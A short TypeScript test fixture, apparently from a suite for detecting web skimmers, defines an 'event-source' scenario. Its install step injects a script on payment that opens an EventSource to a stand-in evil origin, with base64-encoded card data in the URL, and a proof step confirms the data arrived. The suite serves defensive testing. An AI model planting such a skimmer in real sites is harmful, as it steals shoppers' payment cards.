import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'event-source',
  why: 'An event stream is opened, its address is the loot; what it answers does not matter.',
  covers: ['hard: unusual channel'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`new EventSource('${site.origins.evil}/stream?d=' + encodeURIComponent(btoa(card())));`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
